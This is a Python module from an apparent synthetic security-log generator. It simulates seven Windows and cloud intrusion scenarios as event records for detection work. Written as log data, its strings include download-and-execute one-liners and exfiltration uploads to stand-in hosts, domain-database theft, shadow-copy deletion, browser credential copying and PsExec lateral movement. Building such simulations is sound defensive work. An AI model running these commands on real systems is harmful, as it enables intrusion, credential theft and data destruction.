"""Attack scripts of the second set on Windows estates."""

# ruff: noqa: E501 (command lines and records are kept whole)

from __future__ import annotations

from datetime import datetime

from ..worlds.base import Host, Person
from ..worlds.cloud import Cloud
from ..worlds.windows import POWERSHELL_EXE, SYS32, Proc, encoded
from .base import FreshWorld
from .office import Office, found


def _session(o: Office, p: Person, host: Host) -> Proc:
    """Return a desktop opened before the log begins."""
    return Proc(
        host, p, o.win.logon_id(), "C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", o.win.pid(), o.win.guid()
    )


def _desktop(o: Office, at: datetime, p: Person, host: Host) -> Proc:
    return _session(o, p, host) if p.quiet else o.win.shell(at, p, host)


def _type(o: Office, proc: Proc, at: datetime, *lines: str) -> datetime:
    """Write commands typed one after the other."""
    for line in lines:
        at = o.w.later(at, 2, 45)
        word = line.split()[0]
        o.win.start(at, proc, word if ":\\" in word else f"{SYS32}{word.removesuffix('.exe')}.exe", line)
    return at


def _carry_off(o: Office, proc: Proc, at: datetime, what: str) -> datetime:
    """Write files packed and sent outside."""
    w, rng = o.w, o.w.rng
    stem = rng.choice(["upd", "tmp1", "q", "archive", "~f"])
    folder = rng.choice(["C:\\ProgramData", "C:\\Windows\\Temp", "C:\\PerfLogs", "C:\\Users\\Public"])
    pack = rng.choice(
        [
            (
                f"{folder}\\7z.exe",
                f"{folder}\\7z.exe a -tzip -mhe -p{rng.randrange(10**6)} {folder}\\{stem}.zip {what}",
            ),
            (
                f"{folder}\\rar.exe",
                f"{folder}\\rar.exe a -r -hp{rng.randrange(10**6)} -v200m {folder}\\{stem}.rar {what}",
            ),
            (POWERSHELL_EXE, f"powershell -c Compress-Archive -Path {what} -DestinationPath {folder}\\{stem}.zip"),
        ]
    )
    tool = o.win.start(w.later(at, 10, 60), proc, *pack)
    o.win.write_file(w.later(at, 62, 90), tool, f"{folder}\\{stem}.zip")
    ip = w.outside_ip()
    send = rng.choice(
        [
            (SYS32 + "curl.exe", f"curl.exe -k -T {folder}\\{stem}.zip https://{ip}/up/{rng.randrange(99)}"),
            (
                f"{folder}\\rclone.exe",
                f"{folder}\\rclone.exe copy {folder}\\{stem}.zip box:in --no-check-certificate -q",
            ),
            (
                POWERSHELL_EXE,
                f"powershell -nop -c (New-Object Net.WebClient).UploadFile('https://{ip}/p','{folder}\\{stem}.zip')",
            ),
        ]
    )
    out = o.win.start(w.later(at, 100, 300), proc, *send)
    o.win.connect(w.later(at, 301, 303), out, ip, 443)
    return w.later(at, 310, 400)


def _foothold(o: Office, victim: Person, at: datetime) -> tuple[Proc, datetime]:
    """Write a first foothold on a user's computer: a shortcut, a fake update, a side-loading bundle."""
    w, rng, win, host = o.w, o.w.rng, o.win, victim.home
    assert host is not None
    desk = _desktop(o, at, victim, host)
    at = w.later(at, 5, 30)
    ip, name = w.outside_ip(), rng.choice(["browser-patch", "docviewer", "hr-benefits", "parcel-info"]) + ".invalid"
    match rng.randint(0, 2):
        case 0:
            shell = win.start(
                at,
                desk,
                SYS32 + "cmd.exe",
                f'"C:\\Windows\\System32\\cmd.exe" /c start /min powershell -w h -ep bypass "iwr -useb https://{name}/s|iex"',
            )
            shell = win.start(
                w.later(at, 0.5, 1),
                shell,
                POWERSHELL_EXE,
                f'powershell  -w h -ep bypass "iwr -useb https://{name}/s|iex"',
            )
            win.script(w.later(at, 1.5, 2), shell, f"iwr -useb https://{name}/s|iex")
        case 1:
            js = win.start(
                at,
                desk,
                SYS32 + "wscript.exe",
                f'"C:\\Windows\\System32\\wscript.exe" "C:\\Users\\{victim.name}\\Downloads\\Browser.Update.{rng.randrange(99)}.js"',
            )
            shell = win.start(
                w.later(at, 3, 9),
                js,
                SYS32 + "cmd.exe",
                f'"C:\\Windows\\System32\\cmd.exe" /c curl -s http://{ip}/k.dat -o %TEMP%\\k.dll & rundll32 %TEMP%\\k.dll,Start',
            )
            win.start(
                w.later(at, 10, 12),
                shell,
                SYS32 + "rundll32.exe",
                f"rundll32  C:\\Users\\{victim.name}\\AppData\\Local\\Temp\\k.dll,Start",
            )
        case _:
            hta = win.start(at, desk, SYS32 + "mshta.exe", f"mshta.exe https://{name}/verify?{rng.randrange(10**5)}")
            shell = win.start(
                w.later(at, 2, 6),
                hta,
                POWERSHELL_EXE,
                f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded(f'$u={ip!r};iex(irm $u)')}",
            )
            win.script(w.later(at, 7, 8), shell, f"$u='{ip}';iex(irm $u)")
    win.lookup(w.later(at, 12, 13), shell, name, ip)
    win.connect(w.later(at, 13, 14), shell, ip, rng.choice([443, 8443]), name)
    return shell, w.later(at, 20, 300)


def _wmi(o: Office, proc: Proc, who: Person, dst: Host, at: datetime, run: str) -> tuple[Proc, datetime]:
    w, win = o.w, o.win
    as_other = "" if proc.owner is who else f' /user:"{who.full}" /password:"*"'
    win.start(at, proc, SYS32 + "wbem\\WMIC.exe", f'wmic /node:"{dst.name}"{as_other} process call create "{run}"')
    if as_other:
        win.explicit(
            w.later(at, 0.1, 0.2),
            proc.owner,
            who,
            proc.host,
            dst.name,
            logon_id=proc.logon_id,
            process=SYS32 + "wbem\\WMIC.exe",
        )
    logon = win.logon(
        w.later(at, 0.3, 0.8), who, dst, 3, src=proc.host, package=w.rng.choice(["Kerberos", "NTLM"]), admin=True
    )
    host_proc = Proc(
        dst,
        win.network_service,
        "0x3e4",
        SYS32 + "wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        win.pid(),
        win.guid(),
        "System",
    )
    there = win.start(w.later(at, 1, 2), host_proc, SYS32 + "cmd.exe", run, owner=who, logon_id=logon, integrity="High")
    return there, w.later(at, 5, 40)


def _vpn(w: FreshWorld, at: datetime, p: Person, ip: str, inside: str) -> None:
    """Write a VPN gateway's line."""
    w.emit(
        at,
        "vpn-gateway",
        f"<134>1 {at:%Y-%m-%dT%H:%M:%S}Z vpn01 openvpn {2000 + p.uid} - - {ip}:{40000 + p.uid} [{p.name}] Peer Connection Initiated, assigned {inside}",
        p,
    )


# ---- the families ------------------------------------------------------------------------------
def vpn_contractor(w: FreshWorld) -> None:
    """A contractor's VPN account, phished: remote desktop to the jump host, WMI to the file server, files sent out."""
    rng = w.rng
    o = found(w)
    jump = w.host("server")
    contractors = [w.person("user") for _ in range(rng.randint(2, 4))]
    thief = contractors[0]
    thief.quiet = rng.random() < 0.4
    second = o.backup if rng.random() < 0.5 else thief
    if second is o.backup:
        second.quiet = rng.random() < 0.4
    o.day()
    for p in contractors:
        home = w.outside_ip()
        for _ in range(0 if p.quiet else rng.randint(2, 4)):
            at, inside = w.moment(0.02, 0.98), w.ip()
            _vpn(w, w.later(at, -40, -20), p, home, inside)
            o.win._shells.pop((p.full, jump.name), None)
            desk = o.win.shell(at, p, jump, logon_type=10, src_ip=inside)
            _type(o, desk, w.later(at, 10, 60), "mstsc.exe /v:" + rng.choice(o.servers).name, "notepad.exe ticket.txt")
    at = w.moment(0.3, 0.75)
    with w.hostile():
        inside = w.ip()
        _vpn(w, w.later(at, -60, -20), thief, w.outside_ip(), inside)
        o.win._shells.pop((thief.full, jump.name), None)
        desk = o.win.shell(
            at, thief, jump, logon_type=10, src_ip=inside, src_name=rng.choice(["kali", "WIN-7Q2MD81", "DESKTOP-1"])
        )
        cmd = o.win.start(w.later(at, 20, 60), desk, SYS32 + "cmd.exe", "cmd.exe")
        at = _type(
            o,
            cmd,
            w.later(at, 60, 70),
            *rng.sample(
                [
                    "whoami /priv",
                    "net view /all",
                    'net group "Domain Admins" /dom',
                    "nltest /domain_trusts /all_trusts",
                    "net use",
                ],
                3,
            ),
        )
        there, at = _wmi(
            o,
            cmd,
            second,
            o.files,
            at,
            rng.choice(
                [
                    "cmd.exe /c dir /s /b D:\\dept > C:\\Windows\\Temp\\l.txt",
                    "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1",
                ]
            ),
        )
        at = _carry_off(o, there, at, "D:\\dept\\contracts")
    w.take_over(thief, second)
    for p in contractors[1:]:
        w.bystander(p, "another contractor on the same jump host")
    o.nearby(at, [jump, o.files], {thief.name, second.name})
    w.lose("security_only", "no_powershell", "sysmon_only")


def script_password(w: FreshWorld) -> None:
    """A deployment script on the logon share names a password; tasks with it on several servers."""
    rng = w.rng
    o = found(w)
    victim, svc = rng.choice(o.users), o.deploy
    victim.quiet, svc.quiet = rng.random() < 0.25, rng.random() < 0.4
    o.day()
    assert victim.home is not None
    with w.hostile():
        shell, at = _foothold(o, victim, w.moment(0.2, 0.6))
        at = _type(
            o,
            shell,
            at,
            "whoami /groups",
            f"findstr.exe /s /i /m password \\\\{w.dns}\\SYSVOL\\*.ps1 \\\\{w.dns}\\SYSVOL\\*.cmd",
        )
        logon = o.win.logon(at, victim, o.dc, 3, src=victim.home, admin=False)
        o.win.share(
            w.later(at, 0.4, 2),
            victim,
            o.dc,
            "SYSVOL",
            f"{w.dns}\\scripts\\{rng.choice(['mapdrives.cmd', 'install-agent.ps1', 'setlocal.ps1'])}",
            victim.home,
            logon,
        )
        at = w.later(at, 200, 1500)
        task = rng.choice(
            ["\\OneDrive Sync Task", "\\Microsoft\\Windows\\Maintenance\\WinSAT2", "\\AdobeFlashSync", "\\chk"]
        )
        run = rng.choice(
            [
                f"powershell.exe -w hidden -e {encoded('iex(irm http://192.0.2.7/z)')}",
                "C:\\ProgramData\\svhost.exe -k",
                "cmd.exe /c C:\\Windows\\Temp\\r.bat",
            ]
        )
        targets = rng.sample(o.servers, min(len(o.servers), rng.randint(2, 4)))
        for dst in targets:
            at = w.later(at, 20, 120)
            o.win.start(
                at,
                shell,
                SYS32 + "schtasks.exe",
                f'schtasks /create /s {dst.name} /u {svc.full} /p "*" /tn "{task}" /tr "{run}" /sc onstart /ru system /f',
            )
            o.win.explicit(
                w.later(at, 0.1, 0.2),
                victim,
                svc,
                victim.home,
                dst.name,
                logon_id=shell.logon_id,
                process=SYS32 + "schtasks.exe",
            )
            logon = o.win.logon(
                w.later(at, 0.3, 0.9),
                svc,
                dst,
                3,
                src=victim.home,
                package=rng.choice(["NTLM", "Kerberos"]),
                admin=True,
            )
            o.win.share(w.later(at, 1, 1.2), svc, dst, "IPC$", "atsvc", victim.home, logon)
            o.win.task(w.later(at, 1.3, 1.5), svc, dst, task, run.split()[0], run.partition(" ")[2], logon)
            sys = o.win.start(
                w.later(at, 5, 20),
                o.win.svchost(dst),
                run.split()[0]
                if ":\\" in run.split()[0]
                else (POWERSHELL_EXE if run.startswith("power") else SYS32 + "cmd.exe"),
                run,
                owner=o.win.system,
                logon_id="0x3e7",
            )
        _type(o, sys, at, "whoami", "netstat -ano")
    w.take_over(victim, svc)
    o.nearby(at, targets, {victim.name, svc.name})
    w.lose("security_only", "no_controllers", "servers_only", "no_powershell")


def backup_operator(w: FreshWorld) -> None:
    """A backup operator's credentials used to copy the directory database off a controller."""
    rng = w.rng
    o = found(w)
    op = o.admins[0]
    op.quiet = rng.random() < 0.4
    o.day()
    src = rng.choice([o.terminal, *o.servers])
    how = rng.randint(0, 3)
    with w.hostile():
        at = w.moment(0.2, 0.9)
        o.win._shells.pop((op.full, o.dc.name), None)
        desk = o.win.shell(at, op, o.dc, logon_type=10, src=src, admin=True)
        desk.integrity = "High"
        cmd = o.win.start(w.later(at, 15, 50), desk, SYS32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe"')
        at = w.later(at, 60, 90)
        out = rng.choice(["C:\\Windows\\Temp\\ds", "C:\\PerfLogs\\n", "E:\\old"])
        if how == 0:
            o.win.start(at, cmd, SYS32 + "ntdsutil.exe", f'ntdsutil "ac i ntds" "ifm" "create full {out}" q q')
        elif how == 1:
            at = _type(
                o,
                cmd,
                at,
                "vssadmin.exe create shadow /for=C:",
                f"cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{rng.randint(2, 30)}\\Windows\\NTDS\\ntds.dit {out}\\ntds.dit",
                f"reg.exe save HKLM\\SYSTEM {out}\\sys.hiv",
            )
        elif how == 2:
            at = _type(
                o,
                cmd,
                at,
                f"diskshadow.exe /s {out}\\s.txt",
                f"robocopy.exe /b Z:\\Windows\\NTDS {out} ntds.dit",
                f"reg.exe save hklm\\system {out}\\s.bak",
            )
        else:
            at = _type(
                o,
                cmd,
                at,
                f"wbadmin.exe start backup -backupTarget:\\\\{src.name}\\C$\\bk -include:C:\\Windows\\NTDS\\ntds.dit,C:\\Windows\\System32\\config\\SYSTEM -quiet",
                f"esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d {out}\\n.dit",
            )
        o.win.write_file(w.later(at, 5, 20), cmd, f"{out}\\ntds.dit")
        at = _type(
            o,
            cmd,
            w.later(at, 30, 200),
            f"cmd.exe /c move {out}\\ntds.dit \\\\{o.files.name}\\common\\",
            "cmd.exe /c rd /s /q " + out,
        )
        logon = o.win.logon(w.later(at, 0.5, 1), op, o.files, 3, src=o.dc, admin=True)
        o.win.share(w.later(at, 1, 2), op, o.files, "common", "ntds.dit", o.dc, logon)
    w.take_over(op)
    o.nearby(at, [o.dc, o.files], {op.name})
    w.lose("sysmon_only", "security_only", "no_logons")


def ransom_prelude(w: FreshWorld) -> None:
    """A domain administrator's credentials in a stranger's hands: questions, copies to all servers, services stopped."""
    rng = w.rng
    o = found(w)
    da = o.admins[-1]
    da.quiet = rng.random() < 0.5
    o.day()
    base = rng.choice(o.servers)
    with w.hostile():
        at = w.moment(0.3, 0.9)
        o.win._shells.pop((da.full, base.name), None)
        desk = o.win.shell(
            at,
            da,
            base,
            logon_type=10,
            src_ip=w.ip(),
            src_name=rng.choice(["WIN-LIVFRVQFMKO", "PC", "DESKTOP-9X"]),
            admin=True,
        )
        desk.integrity = "High"
        cmd = o.win.start(w.later(at, 9, 30), desk, SYS32 + "cmd.exe", "cmd")
        asked = [
            'net group "Enterprise Admins" /domain',
            "nltest.exe /dclist:",
            "net view \\\\" + o.dc.name,
            "net share",
            "systeminfo.exe",
            "quser.exe",
            "tasklist.exe /svc",
            "C:\\Users\\Public\\AdFind.exe -f (objectcategory=computer) -csv",
            "C:\\PerfLogs\\netscan.exe /hide /auto:r.xml",
        ]
        at = _type(o, cmd, w.later(at, 31, 60), *rng.sample(asked, rng.randint(4, 7)))
        hit = [h for h in o.servers if h is not base][: rng.randint(2, 6)]
        name = rng.choice(["PSEXESVC", "WinSvcUpd", "bkd", "k0"])
        for dst in hit:
            at = w.later(at, 3, 30)
            o.win.start(
                at,
                cmd,
                "C:\\Users\\Public\\PsExec64.exe",
                f"C:\\Users\\Public\\PsExec64.exe -accepteula \\\\{dst.name} -s -d -c C:\\Users\\Public\\stop.bat",
            )
            logon = o.win.logon(
                w.later(at, 0.2, 0.5), da, dst, 3, src=base, package=rng.choice(["NTLM", "Kerberos"]), admin=True
            )
            o.win.share(w.later(at, 0.6, 0.7), da, dst, "ADMIN$", f"{name}.exe", base, logon)
            o.win.service(w.later(at, 0.8, 1), da, dst, name, f"%SystemRoot%\\{name}.exe", logon)
            svc = o.win.start(
                w.later(at, 1.1, 1.4),
                o.win.services(dst),
                f"C:\\Windows\\{name}.exe",
                f"C:\\Windows\\{name}.exe",
                owner=o.win.system,
                logon_id="0x3e7",
            )
            bat = o.win.start(w.later(at, 1.5, 2), svc, SYS32 + "cmd.exe", 'cmd.exe /c "C:\\Windows\\stop.bat"')
            _type(
                o,
                bat,
                w.later(at, 2, 3),
                "vssadmin.exe delete shadows /all /quiet",
                *rng.sample(
                    [
                        "net.exe stop MSSQLSERVER /y",
                        "net.exe stop VeeamBackupSvc /y",
                        "sc.exe config SQLWriter start= disabled",
                        "taskkill.exe /f /im sqlservr.exe",
                        "bcdedit.exe /set {default} recoveryenabled No",
                        "wbadmin.exe delete catalog -quiet",
                        "net.exe stop vss /y",
                    ],
                    rng.randint(2, 4),
                ),
            )
        if rng.random() < 0.5:
            logon = o.win.logon(w.later(at, 60, 90), da, base, 3, src=base, admin=True)
            o.win.log_cleared(w.later(at, 91, 100), da, base, logon)
    w.take_over(da)
    o.nearby(at, [base, *hit], {da.name})
    w.lose("sysmon_only", "security_only", "servers_only", "no_processes")


def scan_account(w: FreshWorld) -> None:
    """A scanner's account guessed over SMB from a device inside, then used to read shares and run a command."""
    rng = w.rng
    o = found(w)
    scan = w.person("service", home=rng.choice(o.servers), label=rng.choice(["scan", "print", "mfp", "fax"]))
    scan.quiet = rng.random() < 0.4
    aimed = rng.sample(o.users, min(len(o.users), rng.choice([0, 0, 2, 5]))) if len(o.users) > 2 else []
    o.day()
    printer = Host("MFP", "mfp", w.ip(), "device")
    for _ in range(0 if scan.quiet else rng.randint(6, 20)):
        at = w.moment()
        logon = o.win.logon(at, scan, o.files, 3, src_ip=printer.ip, src_name="MFP-2F", package="NTLM", admin=False)
        o.win.share(w.later(at, 0.3, 1), scan, o.files, "scans", f"scan{rng.randrange(9999)}.pdf", printer, logon)
        o.win.logoff(w.later(at, 2, 9), scan, o.files, logon)
    rogue = Host("x", "x", w.ip(), "device")
    label = rng.choice(["nmap", "workstation", "kali", "-"])
    strong = rng.random() < 0.6
    with w.hostile():
        at = w.moment(0.2, 0.8)
        for i in range(rng.randint(15, 120)):
            at = w.later(at, 0.2, 3)
            o.win.failed_logon(
                at, scan if not aimed or i % 3 == 0 else rng.choice(aimed), o.files, src_ip=rogue.ip, src_name=label
            )
        for p in aimed:
            for _ in range(4):
                at = w.later(at, 0.2, 3)
                o.win.failed_logon(at, p, o.files, src_ip=rogue.ip, src_name=label)
        at = w.later(at, 0.5, 5)
        logon = o.win.logon(at, scan, o.files, 3, src_ip=rogue.ip, src_name=label, package="NTLM", admin=strong)
        at = w.later(at, 60, 600)
        for dst in [o.files, *rng.sample(o.servers, 2)]:
            at = w.later(at, 5, 30)
            logon = o.win.logon(at, scan, dst, 3, src_ip=rogue.ip, src_name=label, package="NTLM", admin=strong)
            for name in rng.sample(
                ["payroll\\2026.xlsx", "it\\passwords.kdbx", "hr\\offers.docx", "finance\\q2.xlsx"], 2
            ):
                o.win.share(w.later(at, 0.4, 4), scan, dst, rng.choice(["dept", "common", "C$"]), name, rogue, logon)
        if strong:
            o.win.share(w.later(at, 5, 6), scan, dst, "IPC$", "svcctl", rogue, logon)
            svc = rng.choice(["".join(rng.choice("abcdefghij") for _ in range(8)), "BTOBTO"])
            o.win.service(
                w.later(at, 6, 7),
                scan,
                dst,
                svc,
                f"%COMSPEC% /Q /c echo whoami ^> \\\\%COMPUTERNAME%\\C$\\__output 2^>^&1 > %TEMP%\\{svc}.bat & %COMSPEC% /Q /c %TEMP%\\{svc}.bat",
                logon,
            )
            o.win.start(
                w.later(at, 7, 8),
                o.win.services(dst),
                SYS32 + "cmd.exe",
                f"C:\\Windows\\system32\\cmd.exe /Q /c echo whoami ^> \\\\{dst.name}\\C$\\__output 2^>^&1",
                owner=o.win.system,
                logon_id="0x3e7",
            )
    w.take_over(scan)
    w.target(*aimed)
    o.nearby(at, [o.files], {scan.name})
    w.lose("security_only", "no_processes", "no_controllers")


def support_scam(w: FreshWorld) -> None:
    """A caller talks a user into a remote support tool; browser passwords taken; a colleague's used on a server."""
    rng = w.rng
    o = found(w)
    victim = rng.choice(o.users)
    other = rng.choice([u for u in o.users if u is not victim])
    victim.quiet, other.quiet = rng.random() < 0.2, rng.random() < 0.3
    host = victim.home
    assert host is not None
    o.day()
    tool = rng.choice(["AnyDesk", "ScreenConnect.ClientService", "QuickAssist", "Supremo", "rustdesk"])
    used = rng.random() < 0.6
    server = rng.choice([*o.servers, o.terminal])
    with w.hostile():
        at = w.moment(0.2, 0.8)
        desk = _desktop(o, at, victim, host)
        rmm = o.win.start(
            w.later(at, 5, 20),
            desk,
            f"C:\\Users\\{victim.name}\\Downloads\\{tool}.exe",
            f'"C:\\Users\\{victim.name}\\Downloads\\{tool}.exe" --install C:\\ProgramData\\{tool} --silent',
        )
        o.win.connect(w.later(at, 21, 25), rmm, w.outside_ip(), 443, "relay.support-desk.invalid")
        cmd = o.win.start(w.later(at, 40, 120), rmm, SYS32 + "cmd.exe", "cmd.exe")
        profile = f"C:\\Users\\{victim.name}\\AppData\\Local\\Google\\Chrome\\User Data"
        at = _type(
            o,
            cmd,
            w.later(at, 130, 160),
            "whoami /all",
            "net user /domain",
            f'cmd.exe /c copy "{profile}\\Default\\Login Data" C:\\ProgramData\\ld.db',
            'vaultcmd.exe /listcreds:"Windows Credentials"',
            "reg.exe query HKCU\\Software\\SimonTatham\\PuTTY\\Sessions /s",
        )
        if rng.random() < 0.6:
            o.win.set_value(
                w.later(at, 3, 9),
                cmd,
                f"HKU\\{victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{tool}",
                f"C:\\ProgramData\\{tool}\\{tool}.exe",
            )
        if used:
            at = w.later(at, 60, 900)
            o.win.start(at, cmd, SYS32 + "net.exe", f"net use \\\\{server.name}\\C$ * /user:{other.full}")
            o.win.explicit(
                w.later(at, 0.1, 0.3),
                victim,
                other,
                host,
                server.name,
                logon_id=cmd.logon_id,
                process=SYS32 + "net.exe",
            )
            logon = o.win.logon(w.later(at, 0.4, 1), other, server, 3, src=host, package="NTLM", admin=True)
            for name in ("Users", "inetpub\\wwwroot\\web.config"):
                o.win.share(w.later(at, 2, 20), other, server, "C$", name, host, logon)
        at = _carry_off(o, cmd, w.later(at, 60, 90), f"C:\\Users\\{victim.name}\\Documents")
    w.take_over(victim)
    if used:
        w.take_over(other)
    o.nearby(at, [host, server], {victim.name, other.name})
    w.lose("security_only", "sysmon_only", "no_powershell")


def helpdesk_call(w: FreshWorld) -> None:
    """The helpdesk is talked into a new password; sign-ins from abroad to the cloud; another method, then consent."""
    rng = w.rng
    o = found(w)
    victim = rng.choice(o.users)
    victim.quiet = rng.random() < 0.3
    o.day()
    c = Cloud(w)
    office = w.outside_ip()
    for p in [*o.seen(), *o.admins, o.desk_user]:
        ip = office if rng.random() < 0.7 else w.outside_ip()
        for _ in range(0 if p.quiet else rng.randint(3, 8)):
            at = w.moment()
            if rng.random() < 0.06:
                c.signin(
                    w.later(at, -30, -9),
                    p,
                    ip=ip,
                    code=50126,
                    reason="Invalid username or password.",
                    device=p.home.name if p.home else None,
                    country="FI",
                    city="Espoo",
                )
            c.signin(
                at,
                p,
                ip=ip,
                app=rng.choice(["Office365 Shell WCSS-Client", "Microsoft Teams Web Client", "Salesforce"]),
                device=p.home.name if p.home else None,
                mfa="MFA requirement satisfied by claim in the token",
                country="FI",
                city="Espoo",
            )
    at = w.moment(0.3, 0.8)
    o.reset(at, o.desk_user, victim)
    w.bystander(o.desk_user, "the helpdesk, talked into a reset from its own computer")
    country, city = rng.choice([("US", "Newark"), ("ID", "Medan"), ("TR", "Izmir"), ("NL", "Almere")])
    kw = {
        "ip": w.outside_ip(),
        "country": country,
        "city": city,
        "agent": "Mozilla/5.0 (Linux; Android 13) AppleWebKit/537.36 Chrome/119.0 Mobile Safari/537.36",
    }
    with w.hostile():
        at = w.later(at, 60, 900)
        c.signin(
            at,
            victim,
            code=rng.choice([50055, 50140, 50072]),
            reason="Password expired or interrupt required.",
            risk="medium",
            **kw,
        )
        at = w.later(at, 20, 90)
        c.signin(at, victim, app="My Signins", risk=rng.choice(["medium", "high"]), **kw)
        me = {
            "id": c.object_id(victim),
            "displayName": victim.full,
            "type": "User",
            "userPrincipalName": victim.upn,
            "modifiedProperties": [],
        }
        c.directory(
            w.later(at, 30, 200),
            victim,
            "User registered security info",
            category="UserManagement",
            ip=kw["ip"],
            targets=[me],
            service="Authentication Methods",
        )
        for app in rng.sample(
            ["Office 365 Exchange Online", "Office 365 SharePoint Online", "Azure Portal", "Workday"], 3
        ):
            at = w.later(at, 200, 900)
            c.signin(at, victim, app=app, mfa="MFA completed in Azure AD", **kw)
        if rng.random() < 0.6:
            app = {
                "id": str(c.uuid()),
                "displayName": rng.choice(["Newsletter Software Supermailer", "Fastmail Import"]),
                "type": "ServicePrincipal",
                "userPrincipalName": None,
                "modifiedProperties": [
                    {
                        "displayName": "ConsentAction.Permissions",
                        "oldValue": "[]",
                        "newValue": '"[[Scope: Mail.ReadWrite offline_access]]"',
                    }
                ],
            }
            c.directory(
                w.later(at, 60, 300),
                victim,
                "Consent to application",
                category="ApplicationManagement",
                ip=kw["ip"],
                targets=[app],
            )
    w.take_over(victim)
    w.lose("no_controllers", "servers_only", chance=0.3)


FAMILIES = {
    f.__name__: f
    for f in (
        vpn_contractor,
        script_password,
        backup_operator,
        ransom_prelude,
        scan_account,
        support_scam,
        helpdesk_call,
    )
}
